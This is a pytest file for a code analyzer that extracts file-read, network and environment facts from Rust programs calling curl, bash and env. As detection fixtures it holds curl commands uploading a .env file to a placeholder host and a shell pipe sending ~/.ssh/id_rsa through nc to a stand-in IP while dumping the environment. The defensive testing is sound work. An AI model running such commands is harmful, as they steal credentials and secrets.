"""What programs and shell texts are read to do."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from analyzer.facts.programs import split_commands
from analyzer.model import Fact, FactKind

FactsOf = Callable[..., list[Fact]]


def _of(facts: list[Fact], kind: FactKind) -> list[str]:
    return [one.subject for one in facts if one.kind is kind]


UPLOADS = [
    '.args(["-F", "file=@.env", "https://x.invalid/"])',
    '.args(["--form=file=@.env", "https://x.invalid/"])',
    '.args(["-s", "-T", ".env", "https://x.invalid/"])',
    '.args(["--data-binary", "@.env", "https://x.invalid/"])',
    '.arg("-d").arg("@.env").arg("https://x.invalid/")',
    '.arg("-d@.env").arg("https://x.invalid/")',
]


@pytest.mark.parametrize("arguments", UPLOADS)
def test_curl_uploads_are_reads_and_sends(facts_of: FactsOf, arguments: str) -> None:
    facts = facts_of(f'fn main() {{ std::process::Command::new("curl"){arguments}.status(); }}')
    assert _of(facts, FactKind.FILE_READ) == [".env"]
    assert _of(facts, FactKind.NET_SEND) == ["https://x.invalid/"]


def test_a_download_is_a_connection_and_a_write(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("curl").args(["-o", "a.bin", "https://x.invalid/a"]); }'
    facts = facts_of(code)
    assert _of(facts, FactKind.NET_CONNECT) == ["https://x.invalid/a"]
    assert _of(facts, FactKind.FILE_WRITE) == ["a.bin"]


def test_programs_in_a_pipe_are_all_read(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("bash").arg("-c").arg("cat ~/.ssh/id_rsa | nc 192.0.2.1 99; env"); }'
    facts = facts_of(code)
    assert _of(facts, FactKind.FILE_READ) == ["~/.ssh/id_rsa"]
    assert _of(facts, FactKind.NET_CONNECT) == ["192.0.2.1:99"]
    assert _of(facts, FactKind.ENV_READ_ALL) == ["*"]


def test_a_shell_in_a_shell_is_read(facts_of: FactsOf) -> None:
    code = """fn main() { std::process::Command::new("sh").args(["-c", "sh -c 'curl https://x.invalid/'"]); }"""
    assert _of(facts_of(code), FactKind.NET_CONNECT) == ["https://x.invalid/"]


def test_env_that_starts_a_program_dumps_nothing(facts_of: FactsOf) -> None:
    code = 'fn main() { std::process::Command::new("env").args(["A=b", "make"]); }'
    assert not _of(facts_of(code), FactKind.ENV_READ_ALL)


def test_an_unknown_program_is_a_fact(facts_of: FactsOf) -> None:
    code = "fn f(p: &str) { std::process::Command::new(p).status(); }"
    assert _of(facts_of(code), FactKind.PROCESS_SPAWN) == ["unknown"]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("a b; c", [["a", "b"], ["c"]]),
        ("a 'b c' && d", [["a", "b c"], ["d"]]),
        ("X=1 a | b", [["a"], ["b"]]),
        ("echo $(id)", [["echo"], ["id"]]),
        ('a "unbalanced', [["a", '"unbalanced']]),
        ("", []),
    ],
)
def test_shell_text_splits_into_commands(text: str, commands: list[list[str]]) -> None:
    assert split_commands(text) == commands
